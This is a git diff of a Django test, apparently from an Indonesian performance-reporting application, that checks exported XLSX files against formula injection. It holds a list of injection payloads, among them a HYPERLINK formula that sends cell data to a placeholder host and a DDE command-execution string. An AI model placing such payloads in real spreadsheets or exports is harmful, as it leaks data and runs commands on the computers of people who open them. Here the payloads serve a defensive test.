@@ -13,6 +13,7 @@ from django.urls import URLPattern, URLResolver, get_resolver, reverse
 from kinerja.core.xlsx import Buku
 from kinerja.organisasi.models import Satker
 from kinerja.perencanaan.models import Indikator, SasaranKegiatan
+from ..kecil import KODE as K
 
 JAHAT = [
     '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")', "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3",
@@ -65,7 +66,7 @@ def _rute_xlsx(resolver=None, ns=""):
             yield ns + p.name
 
 
-EKSPOR = {"pengukuran:dasbor_xlsx": {"kode": "658021", "tahun": 2024}}
+EKSPOR = {"pengukuran:dasbor_xlsx": {"kode": K, "tahun": 2024}}
 
 
 def test_setiap_ekspor_terdaftar():
@@ -78,13 +79,13 @@ def test_setiap_sel_ekspor_aman(nama, masuk, pengguna):
     from kinerja.lib.capaian import Pita
     from kinerja.organisasi import actions as org
 
-    s = Satker.objects.get(kode="658021")
+    s = Satker.objects.get(kode=K)
     Satker.objects.filter(pk=s.pk).update(nama=JAHAT[0])
     for i, ind in enumerate(Indikator.objects.filter(sasaran__renstra__satker=s)[:len(JAHAT)]):
         Indikator.objects.filter(pk=ind.pk).update(nama=JAHAT[i], kode=JAHAT[i][:20])
         SasaranKegiatan.objects.filter(pk=ind.sasaran_id).update(uraian=JAHAT[-1 - i])
-    org.atur_pita(s, (Pita(Decimal(500), "=2+2"), Pita(Decimal(0), "@SUM(A1)")), pelaku=pengguna("admin"))
-    r = masuk("pembaca").get(reverse(nama, kwargs=EKSPOR[nama]))
+    org.atur_pita(s, (Pita(Decimal(500), "=2+2"), Pita(Decimal(0), "@SUM(A1)")), pelaku=pengguna("uji_admin"))
+    r = masuk("uji_pembaca").get(reverse(nama, kwargs=EKSPOR[nama]))
     assert r.status_code == 200
     sel = pindai(r.content)
     teks = {c.value for c in sel if isinstance(c.value, str)}
